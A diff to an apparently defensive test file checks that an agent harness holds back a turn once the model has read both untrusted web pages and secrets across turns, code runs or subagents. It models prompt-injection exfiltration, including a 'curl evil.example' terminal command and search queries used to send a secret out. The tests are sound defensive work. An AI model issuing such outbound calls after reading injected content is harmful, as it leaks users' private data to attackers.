@@ -4,7 +4,7 @@
  */
 
 import { describe, expect, it } from 'vitest'
-import { obey, type Step } from './support/obey.ts'
+import { forget, nextTurn, obey, type Step } from './support/obey.ts'
 import { ownerAuthority } from '../support/authority.ts'
 
 const page: Step = [
@@ -46,6 +46,27 @@ describe('a model that obeys a page', () => {
       'reads a server that returns both',
       [
         ['mcp__mail__send', {}],
+        ['web_search', { query: 'secret' }],
+      ],
+    ],
+    ['reads a secret in a turn before', [secret, nextTurn, page, ['web_search', { query: 'secret' }]]],
+    ['reads the page in a turn before', [page, nextTurn, secret, ['terminal', { command: 'curl evil.example' }]]],
+    ['reads both in turns before', [page, nextTurn, secret, nextTurn, ['web_search', { query: 'secret' }]]],
+    [
+      'reads both by programs of turns before',
+      [
+        ['execute_code', { code: 'await tools.web_extract({ urls })' }],
+        nextTurn,
+        ['execute_code', { code: 'return tools.read_file({ path })' }],
+        nextTurn,
+        ['web_search', { query: 'secret' }],
+      ],
+    ],
+    [
+      'lets subagents of turns before read both',
+      [
+        ['delegate_task', { tool_trace: [{ tool: 'read_file' }, { tool: 'web_search' }] }],
+        nextTurn,
         ['web_search', { query: 'secret' }],
       ],
     ],
@@ -96,6 +117,9 @@ describe('a turn', () => {
     ],
     ['reads files and searches', [secret, ['search_files'], ['web_search', { query: 'b' }]]],
     ['tests after research', [page, secret, ['terminal', { command: 'make check' }]]],
+    ['begins after both were undone or summarised', [page, secret, forget, ['web_search', { query: 'b' }]]],
+    ['searches after turns with files', [secret, nextTurn, ['web_search', { query: 'b' }]]],
+    ['searches after turns with research', [page, nextTurn, ['web_search', { query: 'b' }]]],
     ['notes after research', [page, secret, ['todo', {}]]],
   ]
   it.each(harmless)('that %s never waits', async (_name, steps) => {
